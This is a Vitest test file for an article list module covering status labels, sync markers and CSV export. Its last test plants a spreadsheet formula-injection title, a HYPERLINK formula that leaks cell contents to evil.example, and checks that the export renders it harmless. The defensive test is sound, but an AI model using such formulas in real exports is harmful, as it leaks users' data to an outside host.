import { describe, expect, it } from 'vitest';
import { articlesCsv, exportFileName, syncMarkerLabel, toListRow } from './list-rows';

const now = new Date('2026-06-01T12:00:00Z');
const e = (published_at: string | null, archived_at: string | null = null) => ({
  id: '1', title: 'Brie, "the queen"', slug: 'brie', content_type: 'pairing_guide' as const, published_at, archived_at,
  created_at: '2026-01-01T00:00:00Z', description: 'Soft',
});

describe('article list rows', () => {
  it.each([
    [e(null), 'draft', 'Draft', '2026-01-01T00:00:00Z'],
    [e('2026-05-01T00:00:00Z'), 'published', 'Published', '2026-05-01T00:00:00Z'],
    [e('2026-07-01T00:00:00Z'), 'scheduled', 'Scheduled', '2026-07-01T00:00:00Z'],
    [e('2026-05-01T00:00:00Z', '2026-05-02T00:00:00Z'), 'archived', 'Archived', '2026-05-01T00:00:00Z'],
  ])('status and date', (entry, status, label, date) => {
    const row = toListRow(entry, now);
    expect([row.status, row.statusLabel, row.date, row.typeLabel]).toEqual([status, label, date, 'Pairing Guide']);
  });
  it('sync markers', () => {
    expect(syncMarkerLabel('synced')).toBeNull();
    expect(syncMarkerLabel('pending')).toBe('Not synced yet');
    expect(syncMarkerLabel('conflict')).toBe('Conflict');
    expect(syncMarkerLabel('failed')).toBe('Sync failed');
  });
  it('exports quoted CSV', () => {
    const csv = articlesCsv([e('2026-05-01T00:00:00Z')], now);
    expect(csv).toBe('title,slug,type,status,published_at,created_at,description\r\n"Brie, ""the queen""",brie,Pairing Guide,Published,2026-05-01T00:00:00Z,2026-01-01T00:00:00Z,Soft\r\n');
    expect(exportFileName(now)).toBe('articles-2026-06-01.csv');
  });
  it("a partner's formula title reaches the export as text, not as a formula", () => {
    const evil = { ...e(null), title: '=HYPERLINK("http://evil.example/?leak="&A2,"Open")', description: '@SUM(A1)' };
    const line = articlesCsv([evil], now).split('\r\n')[1];
    expect(line).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Open"")",brie,Pairing Guide,Draft,,2026-01-01T00:00:00Z,'@SUM(A1)`);
  });
});
